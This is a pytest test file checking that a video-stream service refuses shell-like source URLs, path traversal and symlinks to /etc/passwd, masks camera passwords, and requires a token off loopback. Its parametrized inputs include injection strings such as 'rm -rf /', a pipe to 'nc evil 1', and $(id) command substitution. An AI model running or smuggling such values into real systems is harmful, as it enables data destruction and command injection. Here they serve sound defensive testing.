"""What the API refuses as a source, and when the server needs a token."""

from __future__ import annotations

import pytest

from app.config import SourceConfig
from app.errors import ConfigError
from app.http.policy import SourcePolicyError, check_source
from app.http.server import resolve_token
from app.http.settings import HttpConfig
from app.redact import redact_url


@pytest.mark.parametrize("url", ["rtsp://cam/x;rm -rf /", "/clips/a.mp4 | nc evil 1", "rtsp://cam/`id`",
                                 "rtsp://cam/$(id)", "http://cam/a\nb", "-i /etc/passwd", "rtsp://cam/a>b"])
def test_shell_like_urls_are_refused_naming_the_url_field(url):
    with pytest.raises(SourcePolicyError) as caught:
        check_source(SourceConfig(url=url) if "\n" not in url else SourceConfig.model_construct(url=url), ["/"])
    assert caught.value.field == "url"


def test_files_are_accepted_only_inside_allowed_paths(tmp_path):
    inside = tmp_path / "clips" / "a.mp4"
    inside.parent.mkdir()
    inside.touch()
    check_source(SourceConfig(url=str(inside)), [str(tmp_path / "clips")])
    check_source(SourceConfig(url=f"file://{inside}"), [str(tmp_path / "clips")])
    for url in (str(tmp_path / "clips" / ".." / "secret.mp4"), "file:///etc/passwd", "/etc/passwd", "a.mp4"):
        with pytest.raises(SourcePolicyError, match=r"allowed_paths|absolute"):
            check_source(SourceConfig(url=url), [str(tmp_path / "clips")])
    with pytest.raises(SourcePolicyError, match="allowed_paths is empty"):
        check_source(SourceConfig(url=str(inside)), [])


def test_a_symlink_out_of_an_allowed_path_is_refused(tmp_path):
    (tmp_path / "clips").mkdir()
    (tmp_path / "clips" / "link.mp4").symlink_to("/etc/passwd")
    with pytest.raises(SourcePolicyError):
        check_source(SourceConfig(url=str(tmp_path / "clips" / "link.mp4")), [str(tmp_path / "clips")])


def test_a_camera_password_given_to_the_api_is_masked_everywhere_afterwards():
    check_source(SourceConfig(url="rtsp://admin:Zq9!longpass@10.0.0.7/stream"), [])
    assert "Zq9!longpass" not in redact_url("opening failed: Zq9!longpass rejected")


def test_off_loopback_the_server_needs_a_token_and_on_loopback_it_may_have_one():
    with pytest.raises(ConfigError, match="DETSTREAM_HTTP_TOKEN"):
        resolve_token(HttpConfig(host="0.0.0.0"), env={})
    assert resolve_token(HttpConfig(host="0.0.0.0"), env={"DETSTREAM_HTTP_TOKEN": "t0ken"}) == "t0ken"
    assert resolve_token(HttpConfig(host="127.0.0.1"), env={}) is None
    assert resolve_token(HttpConfig(host="::1"), env={}) is None
    assert HttpConfig(host="localhost").loopback and not HttpConfig(host="192.168.1.2").loopback
